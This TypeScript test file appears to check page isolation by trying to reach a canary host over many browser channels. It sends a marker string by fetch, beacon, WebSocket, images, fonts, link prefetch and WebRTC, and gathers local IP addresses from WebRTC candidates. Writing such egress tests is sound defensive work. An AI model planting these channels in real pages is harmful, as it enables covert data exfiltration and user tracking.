/** Attempts to tell a stranger something, by every way that a page has. */
import { inPage } from './in-page.ts';

export const NETWORK = inPage('network', [
  ['fetch', "await fetch(CANARY + '/fetch?told=all', { mode: 'no-cors' })"],
  [
    'fetch that outlives the page',
    "await fetch(CANARY + '/keepalive', { method: 'POST', keepalive: true, body: 'told' })",
  ],
  [
    'XMLHttpRequest',
    "const x = new XMLHttpRequest(); x.open('POST', CANARY + '/xhr'); x.send('told'); await wait(300)",
  ],
  ['a WebSocket', "new WebSocket(WS + '/socket'); await wait(300)"],
  ['a WebSocket over TLS', "new WebSocket(WS.replace('ws:', 'wss:') + '/socket'); await wait(300)"],
  ['an EventSource', "new EventSource(CANARY + '/events'); await wait(300)"],
  ['sendBeacon', "navigator.sendBeacon(CANARY + '/beacon', 'told'); await wait(300)"],
  ['WebTransport', "await new WebTransport(CANARY.replace('http:', 'https:') + '/transport').ready"],
  ['a picture', "new Image().src = CANARY + '/picture.png?told'; await wait(300)"],
  [
    'a video',
    "const v = document.createElement('video'); v.src = CANARY + '/video.mp4'; v.load(); await wait(300)",
  ],
  ['a font', "await new FontFace('x', 'url(' + CANARY + '/font.woff2)').load()"],
  [
    'a background in a style',
    "document.body.style.backgroundImage = 'url(' + CANARY + '/background.png)'; await wait(300); document.body.style.backgroundImage = ''",
  ],
  [
    'an icon',
    "const l = document.createElement('link'); l.rel = 'icon'; l.href = CANARY + '/icon.png'; document.head.append(l); await wait(400); l.remove()",
  ],
  [
    'a manifest',
    "const l = document.createElement('link'); l.rel = 'manifest'; l.href = CANARY + '/manifest.json'; document.head.append(l); await wait(400); l.remove()",
  ],
  ['prefetch', LINKED('prefetch')],
  ['preload', LINKED('preload')],
  ['modulepreload', LINKED('modulepreload')],
  ['preconnect', LINKED('preconnect'), { settleMs: 700 }],
  ['prerender', LINKED('prerender')],
  [
    'speculation rules',
    "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [CANARY + '/speculated'] }], prerender: [{ source: 'list', urls: [CANARY + '/prerendered'] }] }); document.head.append(s); await wait(500); s.remove()",
  ],
  ['WebRTC to a stranger by UDP', RTC("'stun:' + CANARY.slice(7)"), { settleMs: 800 }],
  ['WebRTC to a stranger by TCP', RTC("'turn:' + CANARY.slice(7) + '?transport=tcp'"), { settleMs: 800 }],
  [
    'WebRTC tells of the network',
    `const c = new RTCPeerConnection(); const told = []; c.onicecandidate = ({ candidate }) => candidate && told.push(candidate.candidate);
    c.createDataChannel('x'); await c.setLocalDescription(); await wait(700); c.close(); return told.find((one) => /\\d+\\.\\d+\\.\\d+\\.\\d+/.test(one)) ?? ''`,
  ],
  [
    'a socket of the system',
    "return 'TCPSocket' in window || 'UDPSocket' in window ? 'there are sockets' : ''",
  ],
]);

function LINKED(rel: string): string {
  return `const l = document.createElement('link'); l.rel = '${rel}'; l.as = 'script'; l.href = CANARY + '/${rel}.js'; document.head.append(l); await wait(400); l.remove()`;
}

function RTC(server: string): string {
  return `const c = new RTCPeerConnection({ iceServers: [{ urls: ${server}, username: 'a', credential: 'b' }] }); c.createDataChannel('x');
    await c.setLocalDescription(); await wait(900); c.close()`;
}
